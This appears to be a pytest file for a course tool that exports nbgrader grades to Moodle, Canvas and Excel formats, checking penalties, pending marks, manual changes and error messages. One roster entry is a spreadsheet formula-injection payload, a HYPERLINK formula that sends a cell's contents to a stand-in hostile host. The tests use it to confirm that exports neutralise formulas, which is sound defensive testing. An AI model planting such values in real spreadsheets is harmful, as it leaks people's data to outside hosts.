"""The marks of a small cohort in each format, read back by other programs."""

import csv
import io
import shutil
from datetime import UTC, datetime

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from nbgrader.api import Gradebook
from nbgrader.apps.exportapp import ExportApp

from ciberaula.cli import main
from ciberaula.errors import UserError
from ciberaula.grading import ledger
from ciberaula.grading.config import COURSE_ID, course_config
from ciberaula.grading.exports import CanvasExport, MoodleExport, XlsxExport
from ciberaula.grading.exports.marks import read_marks
from ciberaula.spreadsheet import looks_like_formula

FIRST, SECOND = "91-primera", "92-segunda"
FORMULA = '=HYPERLINK("https://malo.example/?"&A2,"Ana")'
ROSTER = f"""id,name,cohort,group,setting,simulated
ana,Ana Núñez,2026-A,1,rural,false
luis,"{FORMULA.replace('"', '""')}",2026-A,2,urban,false
eva,Eva,2026-A,1,urban,true
zoe,Zoe,2026-A,,urban,false
rosa,Rosa,2026-A,,urban,false
iris,Iris,2026-A,,rural,false
"""
HANDED_IN = datetime(2026, 3, 2, 10, 0)


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A home with a roster and a gradebook: two assignments, of 5 and 4 points."""
    root = tmp_path_factory.mktemp("curso")
    home = root / "var"
    home.mkdir()
    (root / "modules").mkdir()
    (root / "modules" / "curriculum.yml").write_text("modules: []\n", encoding="utf-8")
    (home / "roster.csv").write_text(ROSTER, encoding="utf-8")
    (home / "submitted" / "eva" / SECOND).mkdir(parents=True)
    (home / "submitted" / "iris" / FIRST).mkdir(parents=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CIBERAULA_COURSE", str(root))
        patch.setenv("CIBERAULA_HOME", str(home))
        db_url = str(course_config().CourseDirectory.db_url)
    with Gradebook(db_url, COURSE_ID) as book:
        for assignment, maximum in ((FIRST, 2), (SECOND, 1)):
            book.add_assignment(assignment)
            book.add_notebook("n", assignment)
            book.add_grade_cell("p01", "n", assignment, max_score=maximum, cell_type="code")
            book.add_grade_cell("p02", "n", assignment, max_score=3, cell_type="markdown")
        for student in ("ana", "luis", "eva", "zoe", "ajena"):
            book.add_student(student)
        # (automatic, by hand, waits for a person) of p01 and p02, and what is taken off for being late
        hand_in(book, FIRST, "ana", (2, None, False), (None, 2.55, False), penalty=0.1)
        hand_in(book, FIRST, "luis", (0, 1.5, False), (None, None, True))
        hand_in(book, FIRST, "eva", (1, None, False), (None, 0, False), penalty=3)
        hand_in(book, SECOND, "ana", (None, None, True), (None, None, True))
        hand_in(book, FIRST, "ajena", (2, None, False), (None, 3, False))
        hand_in(book, SECOND, "eva", (0, 1, False), (None, 3, False))
    with ledger.writing(db_url) as connection:
        change = {
            "assignment": FIRST,
            "student": "luis",
            "item": "p01",
            "before": 0.0,
            "points": 1.5,
            "author": "Marta",
        }
        change |= {"reason": "+ la pregunta era ambigua", "made_at": datetime(2026, 3, 5, 9, 30)}
        connection.execute(ledger.overrides.insert().values(**change))
        attempt(connection, FIRST, "rosa", 1, "failed", "el cuaderno está dañado")
        attempt(connection, FIRST, "ana", 1, "graded")
        attempt(connection, FIRST, "ana", 2, "failed", "la entrega no trae el cuaderno de la tarea")
        attempt(connection, FIRST, "eva", 1, "failed", "el cuaderno está dañado")
        attempt(connection, FIRST, "eva", 2, "graded")
        attempt(connection, SECOND, "ana", 1, "not_gradable", "p01: La hoja de respuestas no se puede leer.")
        attempt(connection, SECOND, "eva", 1, "not_gradable", "p01: ya tiene puntos a mano")
    return root


def attempt(connection, assignment, student, number, state, reason=None):
    row = {"assignment": assignment, "student": student, "number": number, "state": state, "reason": reason}
    row |= {"signature": "s", "digest": f"d{number}", "key": "k", "receipt": "", "counts": state != "failed"}
    row |= {"submitted_at": HANDED_IN, "graded_at": datetime(2026, 3, 3, number)}
    connection.execute(ledger.attempts.insert().values(**row))


def hand_in(book, assignment, student, *scores, penalty=0.0):
    submission = book.add_submission(assignment, student, timestamp=HANDED_IN)
    submission.notebooks[0].late_submission_penalty = penalty
    for grade, (auto, manual, waits) in zip(
        sorted(submission.notebooks[0].grades, key=lambda one: one.name), scores, strict=True
    ):
        grade.auto_score, grade.manual_score, grade.needs_manual_grade = auto, manual, waits
    book.db.commit()


@pytest.fixture
def home(made, monkeypatch):
    monkeypatch.setenv("CIBERAULA_COURSE", str(made))
    monkeypatch.setenv("CIBERAULA_HOME", str(made / "var"))
    monkeypatch.delenv("CIBERAULA_DB_URL", raising=False)
    return made / "var"


def exported(home, plugin, to, **settings):
    exporter = plugin(to=str(to), **settings)
    with Gradebook(f"sqlite:///{home / 'gradebook.db'}", COURSE_ID) as book:
        exporter.write(book)
    return exporter.told


def cells(path):
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_marks_are_final_or_wait_or_are_not_there(home):
    with Gradebook(f"sqlite:///{home / 'gradebook.db'}", COURSE_ID) as book:
        table = read_marks(book)
    assert dict(table.maxima) == {FIRST: 5, SECOND: 4}
    ana, luis, eva = (table.mark(one, FIRST) for one in ("ana", "luis", "eva"))
    assert (ana.state, ana.earned, ana.penalty, ana.points, ana.waiting) == ("final", 4.55, 0.1, 4.45, 0)
    assert ana.submitted_at == HANDED_IN.replace(tzinfo=UTC)
    assert (luis.state, luis.points, luis.waiting) == ("waiting", 1.5, 1)
    assert (luis.shown(partial=False), luis.shown(partial=True)) == (None, 1.5)
    assert (eva.state, eva.earned, eva.points) == ("final", 1, 0)  # a penalty takes no more than there is
    assert (table.mark("ana", SECOND).points, table.mark("ana", SECOND).state) == (None, "unread")
    assert table.mark("zoe", FIRST).state == "absent"


def test_what_could_not_be_graded_is_a_state_of_its_own(home):
    with Gradebook(f"sqlite:///{home / 'gradebook.db'}", COURSE_ID) as book:
        table = read_marks(book)
    rosa, ana = table.mark("rosa", FIRST), table.mark("ana", SECOND)
    assert (rosa.state, rosa.points, rosa.reason) == ("failed", None, "el cuaderno está dañado")
    assert rosa.submitted_at == HANDED_IN.replace(tzinfo=UTC)
    assert (ana.state, ana.waiting, ana.unread) == ("unread", 1, 1)
    assert ana.reason == "p01: La hoja de respuestas no se puede leer."
    assert table.mark("iris", FIRST).state == "ungraded"
    # Marks of an earlier work that still count, one that was graded since, and one that a person gave points to.
    assert table.mark("ana", FIRST).state == "final"
    assert table.mark("ana", FIRST).reason.startswith("vale una entrega anterior; la última no se pudo calificar: la")
    assert (table.mark("eva", FIRST).reason, table.mark("eva", SECOND).reason) == ("", "")
    assert table.strangers == ["ajena"]


def test_moodle(home, tmp_path):
    """The file as it is: a hyphen is «no mark», whoever handed nothing in has no row."""
    told = exported(home, MoodleExport, tmp_path / "notas.csv")
    assert (tmp_path / "notas.csv").read_bytes().decode("utf-8") == (
        f"\ufeffidnumber,fullname,{FIRST},{SECOND}\r\n"
        "ana,Ana Núñez,4.45,-\r\n"
        'luis,"\'=HYPERLINK(""https://malo.example/?""&A2,""Ana"")",-,-\r\n'
        "eva,Eva (persona simulada),0,4\r\n"
        "rosa,Rosa,-,-\r\n"
        "iris,Iris,-,-\r\n"
    )
    assert (tmp_path / "notas.csv").stat().st_mode & 0o777 == 0o600
    assert told[0].endswith("notas.csv: 3 notas. Tiene nombres y notas: guárdelo donde solo usted pueda leerlo.")
    assert told[1:] == (
        f"En blanco: 2 respuestas de 2 entregas esperan a una persona: ana ({SECOND}), luis ({FIRST}).",
        f"En blanco: 1 respuesta de 1 entrega no se pudo leer: ana ({SECOND}).",
        f"En blanco: 1 entrega no se pudo calificar: rosa ({FIRST}).",
        f"En blanco: 1 entrega está sin calificar: iris ({FIRST}).",
        f"Vale la entrega anterior: 1 entrega no se pudo calificar: ana ({FIRST}).",
        "Con --partial salen también las notas parciales.",
        "Entregaron y no están en la lista de participantes, así que no salen en el archivo: ajena.",
    )


def test_canvas(home, tmp_path):
    exported(home, CanvasExport, tmp_path / "notas.csv", assignment=[FIRST])
    rows = cells(tmp_path / "notas.csv")
    assert rows[:3] == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", FIRST],
        ["    Points Possible", "", "", "", "", "5"],
        ["Ana Núñez", "", "ana", "", "2026-A", "4.45"],
    ]
    assert rows[3] == ["'" + FORMULA, "", "luis", "", "2026-A", ""]
    # Canvas looks for these words in the first cell of the header, mark of UTF-8 and all, and cuts where three lines agree.
    first, *_rest = (tmp_path / "notas.csv").read_text(encoding="utf-8").splitlines()
    assert "Student" in first.split(",")[0]
    assert '"' not in first


def test_partial_marks_go_out_when_asked_for(home, tmp_path):
    told = exported(home, MoodleExport, tmp_path / "notas.csv", partial=True, student=["luis", "ana"])
    assert [row[2:] for row in cells(tmp_path / "notas.csv")[1:]] == [["4.45", "-"], ["1.5", "-"]]
    assert told[1] == f"Nota parcial: 2 respuestas de 2 entregas esperan a una persona: ana ({SECOND}), luis ({FIRST})."


def test_the_workbook(home, tmp_path):
    exported(home, XlsxExport, tmp_path / "notas.xlsx")
    book = openpyxl.load_workbook(tmp_path / "notas.xlsx")
    assert book.sheetnames == ["Notas", "Detalle", "Cambios a mano", "Acerca de"]
    marks = book["Notas"]
    assert [cell.value for cell in marks[1]] == [
        *("Identificador", "Nombre", "Cohorte", "Grupo", "Persona simulada"),
        *(f"{FIRST} (de 5)", f"{SECOND} (de 4)"),
    ]
    assert (marks.freeze_panes, marks["A1"].font.bold, marks.auto_filter.ref) == ("C2", True, "A1:G7")
    assert [cell.value for cell in marks[2]] == ["ana", "Ana Núñez", "2026-A", "1", "no", 4.45, None]
    assert (marks["F2"].data_type, marks["F2"].number_format) == ("n", "0.00")
    assert [cell.value for cell in marks[4]][4:] == ["sí", 0, 4]
    assert [cell.value for cell in marks[5]][5:] == [None, None]  # nothing handed in is no zero
    detail = pd.read_excel(tmp_path / "notas.xlsx", sheet_name="Detalle")
    ana = detail[(detail["Identificador"] == "ana") & (detail["Tarea"] == FIRST)].iloc[0]
    assert (ana["Puntos sin descuento"], ana["Descuento por atraso"], ana["Puntos"]) == (4.55, 0.1, 4.45)
    assert ana["Entregada (UTC)"] == pd.Timestamp(HANDED_IN)
    assert ana["Proporción"] == pytest.approx(0.89)
    states = {(row["Identificador"], row["Tarea"]): row["Estado"] for _index, row in detail.iterrows()}
    assert states["luis", FIRST] == "espera a una persona"
    assert states["ana", SECOND] == "algo no se pudo leer"
    assert states["rosa", FIRST] == "entregada, no se pudo calificar"
    assert states["iris", FIRST] == "entregada, sin calificar todavía"
    assert (states["zoe", FIRST], states["ana", FIRST]) == ("sin entregar", "completa")
    rosa = detail[(detail["Identificador"] == "rosa") & (detail["Tarea"] == FIRST)].iloc[0]
    assert (rosa["Qué pasó"], rosa["Entregada (UTC)"]) == ("el cuaderno está dañado", pd.Timestamp(HANDED_IN))
    assert rosa[["Puntos", "Puntos sin descuento", "Preguntas que esperan a una persona"]].isna().all()
    about = dict(book["Acerca de"].iter_rows(min_row=2, values_only=True))
    assert about["Simulación"] == "1 de 6 son personas simuladas para practicar: no existen."
    assert about["Fuera de la lista de participantes"] == "ajena"


def test_changes_by_hand_are_in_the_workbook_with_author_reason_and_date(home, tmp_path):
    exported(home, XlsxExport, tmp_path / "notas.xlsx")
    rows = list(
        openpyxl.load_workbook(tmp_path / "notas.xlsx")["Cambios a mano"].iter_rows(min_row=2, values_only=True)
    )
    when = datetime(2026, 3, 5, 9, 30)
    assert rows == [
        (FIRST, "luis", "p01", 0, 1.5, "Marta", "'+ la pregunta era ambigua", when),
        (SECOND, "eva", "p01", 0, 1, "alguien, en formgrader", "sin motivo anotado", None),
    ]


def test_no_cell_of_any_format_is_a_formula(home, tmp_path):
    for plugin, name in ((MoodleExport, "m.csv"), (CanvasExport, "c.csv")):
        exported(home, plugin, tmp_path / name)
        texts = [cell for row in cells(tmp_path / name) for cell in row]
        assert any("HYPERLINK" in text for text in texts)
        assert [text for text in texts if looks_like_formula(text)] == []
    exported(home, XlsxExport, tmp_path / "x.xlsx")
    seen = [
        cell for sheet in openpyxl.load_workbook(tmp_path / "x.xlsx") for row in sheet for cell in row if cell.value
    ]
    assert any("HYPERLINK" in str(cell.value) for cell in seen)
    assert [cell.value for cell in seen if cell.data_type == "f" or looks_like_formula(str(cell.value))] == []


def test_a_gradebook_that_only_formgrader_has_used_has_no_written_changes(tmp_path, home):
    copy = shutil.copyfile(home / "gradebook.db", tmp_path / "otro.db")
    with Gradebook(f"sqlite:///{copy}", COURSE_ID) as book:
        book.db.execute(sa.text(f"DROP TABLE {ledger.overrides.name}"))
        assert [one.author for one in read_marks(book, [FIRST]).changes] == ["alguien, en formgrader"]


def test_the_command_writes_where_it_says(home, tmp_path, capsys):
    assert main(["export", FIRST, "--format", "moodle"]) == 0
    path = home / "exports" / f"notas-moodle-{FIRST}.csv"
    assert capsys.readouterr().out.startswith(f"{path}: 2 notas.")
    assert cells(path)[0] == ["idnumber", "fullname", FIRST]
    assert main(["export", "--all", "--output", str(tmp_path / "todas.xlsx"), "--partial"]) == 0
    assert openpyxl.load_workbook(tmp_path / "todas.xlsx")["Notas"].max_column == 7


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["98-otra"], f"No existe la tarea 98-otra: use una de {FIRST}, {SECOND}."),
        ([FIRST, "--student", "nadie"], "nadie no está en la lista de participantes: revise cómo se escribe."),
        ([], "Indique qué tareas exportar, o --all para todas."),
        ([FIRST, "--all"], "Indique qué tareas exportar, o --all para todas."),
        ([FIRST, "--output", "falta/notas.xlsx"], "No se pudo guardar falta/notas.xlsx: no existe; revise la ruta."),
        (
            [FIRST, "--output", "notas.txt"],
            "notas.txt no termina en .xlsx, y el formato xlsx es un archivo .xlsx: cambie el nombre, o el formato con --format.",
        ),
        (
            [FIRST, "--format", "moodle", "--output", "notas.XLSX"],
            "notas.XLSX no termina en .csv, y el formato moodle es un archivo .csv: cambie el nombre, o el formato con --format.",
        ),
    ],
)
def test_what_is_wrong_is_one_line_and_no_file(home, tmp_path, monkeypatch, capsys, words, told):
    monkeypatch.chdir(tmp_path)
    assert main(["export", *words]) == 1
    said = capsys.readouterr()
    assert (said.out, said.err) == ("", f"ciberaula: {told}\n")
    assert list(tmp_path.iterdir()) == []


def test_nbgraders_own_command_takes_the_plug_ins(home, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("JUPYTER_CONFIG_DIR", str(tmp_path))
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path))
    app = ExportApp()
    words = ["--db", f"sqlite:///{home / 'gradebook.db'}", "--course", COURSE_ID, "--to", "notas.csv"]
    app.initialize([*words, "--exporter=ciberaula.grading.exports.MoodleExport", f'--assignment=["{FIRST}"]'])
    app.start()
    assert cells(tmp_path / "notas.csv")[1] == ["ana", "Ana Núñez", "4.45"]


def test_nbgraders_way_in_ends_in_one_line_too(home, tmp_path):
    exporter = MoodleExport(to=str(tmp_path / "notas.csv"), assignment=["98-otra"])
    with Gradebook(f"sqlite:///{home / 'gradebook.db'}", COURSE_ID) as book:
        with pytest.raises(SystemExit, match="No existe la tarea 98-otra"):
            exporter.export(book)
        with pytest.raises(UserError, match="No existe la tarea 98-otra"):
            exporter.write(book)
